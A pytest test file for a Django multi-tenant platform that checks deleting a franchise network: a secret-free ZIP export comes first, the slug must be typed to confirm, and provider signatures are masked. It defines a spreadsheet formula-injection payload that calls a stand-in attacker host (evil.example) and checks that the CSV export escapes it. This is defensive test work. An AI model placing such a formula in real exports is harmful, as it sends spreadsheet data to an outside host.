"""Deleting a network: an export first (a ZIP of JSON and CSV without a single secret), then the
slug typed out; then the schema and the public rows (bindings, domains) are gone."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import timedelta
from decimal import Decimal

import pytest
from django.db import connection
from django.utils import timezone
from django_otp.plugins.otp_totp.models import TOTPDevice
from django_tenants.utils import schema_exists, tenant_context

from franchise_platform.accounts.models import ApiToken, User
from franchise_platform.crm_sync.models import CrmConnection
from franchise_platform.network.models import ProviderAccount
from franchise_platform.payments.models import CallbackEvent, Invoice
from franchise_platform.security.models import AuditEntry, DataKey
from tenants.models import CrmAccountBinding, Domain, Network
from tests.factories import DealFactory, shop
from tests.personas import make_persona_network

pytestmark = pytest.mark.django_db

SENTINELS = {
    "password1": "SENTINEL-SHOP-PW1-71c2",
    "password2": "SENTINEL-SHOP-PW2-0be9",
    "test_password1": "SENTINEL-SHOP-TPW1-3a3d",
    "test_password2": "SENTINEL-SHOP-TPW2-9f41",
    "password3": "SENTINEL-SHOP-PW3-4d7a",
}
CRM_ACCESS = "SENTINEL-CRM-ACCESS-55d1"
CRM_REFRESH = "SENTINEL-CRM-REFRESH-aa08"
PENDING_ACCESS = "SENTINEL-PENDING-ACCESS-1e7f"
WEBHOOK_SECRET = "SENTINEL-WEBHOOK-SECRET-c0de"


@pytest.fixture
def doomed():
    """A network full of secrets of every kind, created inside the test (rolled back after)."""
    net = make_persona_network("doomed", "Сеть под снос")
    owner_session = net.owner.browser_client()  # a session row in the network's schema
    with tenant_context(net.network):
        account = shop(merchant_login="doomed-shop", **SENTINELS)
        CrmConnection.objects.create(
            account_id=424242,
            base_url="https://doomed.amocrm.ru",
            access_token=CRM_ACCESS,
            refresh_token=CRM_REFRESH,
            field_map={"link_full": 1},
        )
        device = TOTPDevice.objects.create(user=User.objects.get(email=net.owner.email))
        secrets = {
            **SENTINELS,
            "crm_access": CRM_ACCESS,
            "crm_refresh": CRM_REFRESH,
            "owner_password": net.owner.password,
            "owner_password_hash": User.objects.get(email=net.owner.email).password,
            "api_token": net.owner.api_token,
            "api_token_hash": ApiToken.objects.filter(user__email=net.owner.email)
            .first()
            .token_hash,
            "totp_key": device.key,
            "session_key": owner_session.session.session_key,
            "data_key": DataKey.objects.get().wrapped_key.hex(),
        }
        with connection.cursor() as cursor:
            cursor.execute(
                "SELECT password1 FROM network_provideraccount WHERE id = %s", [account.pk]
            )
            secrets["sealed_password1"] = cursor.fetchone()[0]
    connection.set_schema_to_public()
    binding = CrmAccountBinding.objects.create(
        account_id=424242,
        subdomain="doomed",
        network=net.network,
        state="bound",
        webhook_secret=WEBHOOK_SECRET,
        pending_access_token=PENDING_ACCESS,
    )
    secrets["webhook_secret"] = WEBHOOK_SECRET
    secrets["pending_access"] = PENDING_ACCESS
    assert binding.pk
    return net, secrets


def _export(console, slug="doomed") -> zipfile.ZipFile:
    response = console.post(f"/operator/networks/{slug}/export/")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert f'filename="{slug}-' in response["Content-Disposition"]
    return zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))


def test_export_holds_the_networks_data_as_json_and_csv(console, doomed):
    archive = _export(console)
    names = set(archive.namelist())

    for table in ("network.partner", "network.location", "payments.deal", "accounts.user"):
        assert {f"{table}.json", f"{table}.csv"} <= names
    partners = json.loads(archive.read("network.partner.json"))
    assert len(partners) == 1 and partners[0]["inn"] == "500100732259"
    shops = json.loads(archive.read("network.provideraccount.json"))
    assert shops[0]["merchant_login"] == "doomed-shop"
    assert "merchant_login" in archive.read("network.provideraccount.csv").decode().splitlines()[0]
    public = json.loads(archive.read("network.json"))
    assert public["network"]["slug"] == "doomed"
    assert public["domains"] == [{"domain": "doomed.localhost", "is_primary": True}]
    assert public["crm_bindings"][0]["account_id"] == "424242"
    manifest = json.loads(archive.read("manifest.json"))
    assert manifest["rows"]["network.partner"] == 1
    assert "password1" in manifest["left_out"]["fields"]["network.provideraccount"]


def test_export_holds_no_secret_of_any_kind(console, doomed):
    _, secrets = doomed
    archive = _export(console)

    everything = b"".join(archive.read(name) for name in archive.namelist())

    for what, value in secrets.items():
        assert value.encode() not in everything, f"{what} leaked into the export"
    names = set(archive.namelist())
    for table in ("sessions.session", "security.datakey", "otp_totp.totpdevice"):
        assert not any(n.startswith(table) for n in names), table
    user_row = json.loads(archive.read("accounts.user.json"))[0]
    assert "password" not in user_row
    assert "token_hash" not in json.loads(archive.read("accounts.apitoken.json"))[0]


def test_delete_needs_an_export_first(console, doomed):
    response = console.post(
        "/operator/networks/doomed/delete/", {"confirmation": "doomed"}, follow=True
    )

    assert "Сначала выгрузите данные" in response.content.decode()
    assert Network.objects.filter(slug="doomed").exists()


def test_delete_needs_the_slug_typed_exactly(console, doomed):
    _export(console)

    response = console.post(
        "/operator/networks/doomed/delete/", {"confirmation": "Doomed"}, follow=True
    )

    assert "введите адрес сети точно" in response.content.decode()
    assert Network.objects.filter(slug="doomed").exists()


def test_an_old_export_is_not_enough(console, doomed):
    _export(console)
    AuditEntry.objects.filter(action="network.export", object_repr__contains="(doomed)").update(
        created_at=timezone.now() - timedelta(hours=25)
    )

    console.post("/operator/networks/doomed/delete/", {"confirmation": "doomed"})

    assert Network.objects.filter(slug="doomed").exists()


def test_delete_drops_the_schema_and_the_public_rows(console, operator, doomed):
    net, _ = doomed
    schema = net.network.schema_name
    _export(console)
    # The fixture's rows were written in this test's transaction; in real life the network's data
    # was committed long before, and PostgreSQL refuses to drop tables with pending FK checks.
    with connection.cursor() as cursor:
        cursor.execute("SET CONSTRAINTS ALL IMMEDIATE")

    response = console.post("/operator/networks/doomed/delete/", {"confirmation": "doomed"})

    assert response.status_code == 302 and response["Location"] == "/operator/"
    assert not schema_exists(schema)
    assert not Network.objects.filter(slug="doomed").exists()
    assert not Domain.objects.filter(domain="doomed.localhost").exists()
    assert not CrmAccountBinding.objects.filter(account_id=424242).exists()
    entry = AuditEntry.objects.get(action="network.delete", object_repr__contains="(doomed)")
    assert entry.actor == f"{operator.email} (operator)"
    assert entry.changes["slug"] == ["doomed", None]
    # Its host is unknown now: 404 before any schema is touched.
    from django.test import Client

    assert Client(HTTP_HOST="doomed.localhost").get("/panel/").status_code == 404


ROBOKASSA_SIGNATURE = "C60BAC72B1AA1F5C6E5B2FDE2C4952EA"
PAY_SIGNATURE = "e0832e6ffe0cb830b9d205b7cfffbe54"
HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Квест")'


@pytest.fixture
def doomed_with_payments(doomed):
    """The doomed network with a deal titled by an attacker, an invoice whose payment URL is signed
    and a stored notification with its signature."""
    net, _ = doomed
    with tenant_context(net.network):
        account = ProviderAccount.objects.get(merchant_login="doomed-shop")
        deal = DealFactory(title=HOSTILE_TITLE, partner=account.partner)
        invoice = Invoice.objects.create(
            deal=deal,
            provider_account=account,
            provider="robokassa",
            amount=Decimal("1500.00"),
            payment_kind="prepayment",
            payment_url=(
                "https://auth.robokassa.ru/Merchant/Index.aspx?MerchantLogin=doomed-shop"
                f"&OutSum=1500.00&InvId=1&SignatureValue={PAY_SIGNATURE}&Culture=ru"
            ),
            expires_at=timezone.now() + timedelta(days=1),
        )
        CallbackEvent.objects.create(
            provider="robokassa",
            partner=account.partner,
            provider_account=account,
            invoice_number=invoice.pk,
            params={
                "OutSum": "1500.000000",
                "InvId": str(invoice.pk),
                "signaturevalue": ROBOKASSA_SIGNATURE,
            },
            accepted=False,
            reason_code="bad_signature",
            status="refused",
        )
    return net


def test_export_masks_provider_signatures(console, doomed_with_payments):
    archive = _export(console)

    everything = b"".join(archive.read(name) for name in archive.namelist())
    assert ROBOKASSA_SIGNATURE.encode() not in everything
    assert PAY_SIGNATURE.encode() not in everything
    event = json.loads(archive.read("payments.callbackevent.json"))[0]
    assert event["params"]["OutSum"] == "1500.000000"  # the rest is kept as received
    assert event["params"]["signaturevalue"] == "••••••"
    invoice = json.loads(archive.read("payments.invoice.json"))[0]
    assert "SignatureValue=••••••&Culture=ru" in invoice["payment_url"]


def test_export_csv_keeps_formula_like_cells_as_text(console, doomed_with_payments):
    archive = _export(console)

    rows = list(csv.DictReader(io.StringIO(archive.read("payments.deal.csv").decode())))
    assert [row["title"] for row in rows] == ["'" + HOSTILE_TITLE]
    # The JSON file is data, not a sheet: the title stays exactly as the lead has it.
    assert json.loads(archive.read("payments.deal.json"))[0]["title"] == HOSTILE_TITLE
